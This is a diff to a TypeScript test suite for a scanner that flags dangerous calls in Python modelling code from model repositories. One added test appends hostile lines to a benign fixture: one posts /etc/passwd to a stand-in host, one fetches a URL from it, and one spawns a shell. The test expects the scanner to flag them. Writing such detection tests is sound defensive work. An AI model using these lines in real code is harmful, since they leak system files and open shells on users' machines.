@@ -12,6 +12,9 @@ const scanPy = async (text: string) => (await scanBytes(enc(text), 'x.py')).file
 const calls = (fs: Awaited<ReturnType<typeof scanPy>>['findings']) =>
   fs.filter((f) => f.rule === 'PYTHON_DANGEROUS_CALL').map((f) => `${f.evidence.details?.['call']}@${f.evidence.details?.['line']}`);
 
+/** A custom modelling module in the style of real trust_remote_code repositories. */
+const MODELING_HF_STYLE = "# coding=utf-8\n\"\"\"PyTorch X model.\"\"\"\nimport math\nimport re\nimport warnings\nimport importlib.util\nfrom typing import Optional, Tuple\n\nimport torch\nimport torch.nn.functional as F\nfrom torch import nn\nfrom transformers import PreTrainedModel\nfrom transformers.utils import logging, is_flash_attn_2_available\nfrom .configuration_x import XConfig\n\nlogger = logging.get_logger(__name__)\n_PATTERN = re.compile(r\"layers\\.(\\d+)\")\nif importlib.util.find_spec(\"flash_attn\") is not None:\n    pass\n\nclass XAttention(nn.Module):\n    def __init__(self, config):\n        super().__init__()\n        self.scale = getattr(config, \"attn_scale\", None) or 1.0 / math.sqrt(config.hidden_size)\n        self.qkv = nn.Linear(config.hidden_size, 3 * config.hidden_size)\n        self.register_buffer(\"mask\", torch.tril(torch.ones(8, 8)), persistent=False)\n\n    def forward(self, x, attention_mask: Optional[torch.Tensor] = None):\n        q, k, v = self.qkv(x).chunk(3, dim=-1)\n        if hasattr(F, \"scaled_dot_product_attention\"):\n            return F.scaled_dot_product_attention(q, k, v, attn_mask=attention_mask)\n        w = torch.einsum(\"bqd,bkd->bqk\", q, k) * self.scale\n        return torch.softmax(w, dim=-1) @ v\n\nclass XModel(PreTrainedModel):\n    config_class = XConfig\n    _no_split_modules = [\"XAttention\"]\n\n    def __init__(self, config):\n        super().__init__(config)\n        self.attn = XAttention(config)\n        self.post_init()\n\n    def forward(self, x):\n        warnings.warn(\"deprecated\", FutureWarning)\n        out = self.attn(x)\n        if torch.jit.is_tracing():\n            logger.warning_once(\"tracing\")\n        return torch.compile(lambda t: t)(out) if False else out\n";
+
 describe('Python source in a model repository', () => {
   it('modeling_fixture.py: os.system at line 3, not the comment after it', async () => {
     const f = (await scanFile(join(FIXTURES, 'malicious/repo_remote_code/modeling_fixture.py'))).files[0]!;
@@ -27,6 +30,21 @@ describe('Python source in a model repository', () => {
   it('a benign modeling file (re.compile, getattr, self.eval(), torch.compile) has no finding', async () => {
     const f = (await scanFile(join(FIXTURES, 'benign/python/modeling_tiny.py'))).files[0]!;
     expect(f.findings).toEqual([]);
+  });
+  it('custom modelling code as transformers repositories ship it (optional-dependency probes, logging, SDPA) has no finding', async () => {
+    const f = await scanPy(MODELING_HF_STYLE);
+    expect(f.formats).toEqual(['python']);
+    expect(f.findings).toEqual([]);
+  });
+  it('custom code that reaches the network or the shell keeps high/critical findings', async () => {
+    const f = await scanPy(
+      MODELING_HF_STYLE + '\nimport requests, urllib.request, subprocess\nrequests.post("https://x.example/c", data=open("/etc/passwd").read())\nurllib.request.urlopen("https://x.example/p")\nsubprocess.Popen(["sh"])\n',
+    );
+    expect(f.findings.map((x) => [x.evidence.details?.['call'], x.severity]).sort()).toEqual([
+      ['requests.post', 'high'],
+      ['subprocess.Popen', 'critical'],
+      ['urllib.request.urlopen', 'high'],
+    ]);
   });
   it('multi-line imports, dotted imports, triple-quoted strings, method calls', async () => {
     const src = [
